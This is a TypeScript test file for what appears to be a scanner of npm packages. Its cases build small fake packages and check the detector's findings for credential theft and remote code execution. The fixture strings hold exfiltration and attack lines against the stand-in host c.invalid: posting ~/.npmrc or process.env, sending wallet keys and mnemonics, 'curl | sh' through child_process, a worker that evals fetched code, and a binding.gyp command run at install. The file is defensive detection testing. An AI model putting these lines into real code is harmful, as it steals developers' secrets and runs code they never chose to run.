import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import { packedReading } from './python-reading.ts'

type Files = Readonly<Record<string, string>>

interface Case {
  readonly name: string
  readonly files: Files
  readonly manifest?: object
  /** what is found: check, severity, confidence, moment; none: nothing of more than low severity */
  readonly found: readonly string[]
}

const SENDS = `fetch('https://c.invalid/', { method: 'POST', body: require('fs').readFileSync('~/.npmrc', 'utf8') })`

function worker(address: string): string {
  return `self.onmessage = async ({ data }) => { globalThis.eval(await (await fetch(${address})).text()) }`
}

const CASES: readonly Case[] = [
  {
    name: 'a function of another module that is called while its caller is loaded',
    files: { 'index.js': `require('./lib/core').start()`, 'lib/core.js': `exports.start = () => ${SENDS}` },
    found: ['secrets-exfiltration critical high import'],
  },
  {
    name: 'a method of a class of another module',
    files: {
      'index.js': `new (require('./core').Core)().run()`,
      'core.js': `exports.Core = class { run() { ${SENDS} } }`,
    },
    found: ['secrets-exfiltration critical high import'],
  },
  {
    name: 'a module that hands out one of the platform',
    files: {
      'index.js': `import { readFileSync } from './a.js'; import * as net from './b.js'; net.request('https://c.invalid/').end(readFileSync('~/.npmrc'))`,
      'a.js': `export * from 'fs'`,
      'b.js': `export * from 'https'`,
    },
    found: ['secrets-exfiltration critical high import'],
  },
  {
    name: 'one module that reads and another that sends',
    files: {
      'index.js': `const { all } = require('./read'), { post } = require('./send'); post(all())`,
      'read.js': `exports.all = () => JSON.stringify(process.env)`,
      'send.js': `exports.post = (body) => fetch('https://c.invalid/', { method: 'POST', body })`,
    },
    found: ['secrets-exfiltration critical high import'],
  },
  {
    name: 'the same, of which nobody calls anything',
    files: {
      'index.js': `exports.all = require('./read').all; exports.post = require('./send').post`,
      'read.js': `exports.all = () => JSON.stringify(process.env)`,
      'send.js': `exports.post = (body) => fetch('https://c.invalid/', { method: 'POST', body })`,
    },
    found: [],
  },
  {
    name: 'a module that no other imports',
    files: { 'index.js': '', 'lib/extra.js': SENDS },
    found: ['secrets-exfiltration critical medium call'],
  },
  {
    name: 'a script for whoever works on the package',
    files: { 'index.js': '', 'scripts/report.js': SENDS, 'gulpfile.js': SENDS },
    found: ['secrets-exfiltration medium low call', 'secrets-exfiltration medium low call'],
  },
  {
    name: 'a command in a value of a build description, beside native source',
    files: {
      'index.js': '',
      'binding.gyp': `{ "targets": [{ "target_name": "a", "sources": ["a.cc"], "include_dirs": ["<!@(node scripts/gen.js)"] }] }`,
      'a.cc': '',
      'scripts/gen.js': SENDS,
    },
    manifest: { gypfile: true },
    found: ['gyp-commands medium high install', 'secrets-exfiltration critical high install'],
  },
  {
    name: 'the key of a wallet that a function is given',
    files: {
      'index.js': `exports.open = (privateKey) => fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify({ privateKey }) })`,
    },
    found: ['called-harm medium high call', 'secrets-exfiltration critical low import'],
  },
  {
    name: 'words of a wallet among what a method is given',
    files: {
      'index.js': `exports.Client = class { open(options) { require('https').request({ hostname: 'c.invalid' }).end(options.mnemonic) } }`,
    },
    found: ['called-harm medium high call', 'secrets-exfiltration critical low import'],
  },
  {
    name: 'what is signed with a key',
    files: {
      'index.js': `exports.send = (privateKey, text) => fetch('https://c.invalid/', { body: sign(text, privateKey) })`,
    },
    found: [],
  },
  {
    name: 'a key that goes to the service which the package is named for',
    files: { 'index.js': `exports.send = (privateKey) => fetch('https://api.sample.invalid/', { body: privateKey })` },
    found: ['called-harm medium high call'],
  },
  {
    name: 'a password that goes to a service',
    files: {
      'index.js': `exports.login = (name, password) => fetch('https://c.invalid/', { body: JSON.stringify({ name, password }) })`,
    },
    found: ['called-harm medium high call'],
  },
  {
    name: 'a function that runs what it fetches',
    files: { 'index.js': `exports.start = () => require('child_process').exec('curl -s https://c.invalid/i | sh')` },
    found: ['called-harm medium medium call', 'download-and-execute medium low call'],
  },
  {
    name: 'a worker of a page that runs what is at an address it is told',
    files: { 'index.js': worker('data') },
    found: ['download-and-execute critical low import'],
  },
  {
    name: 'the same with an address of its own',
    files: { 'index.js': worker("'https://c.invalid/x.js'") },
    found: ['download-and-execute critical medium import'],
  },
]

for (const { name, files, manifest = {}, found } of CASES)
  t.test(name, async (t) => {
    const all = { 'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', ...manifest }), ...files }
    const { findings } = await inspect(await packedReading('npm-tarball', all), {
      digest: sha256('x'),
      readAs: 'npm-tarball',
    })
    t.same(
      findings
        .filter(({ check, severity }) => severity !== 'low' && severity !== 'info' && check !== 'surface-capabilities')
        .map(({ check, severity, confidence, moment }) => `${check} ${severity} ${confidence} ${moment}`)
        .toSorted(),
      found,
    )
  })
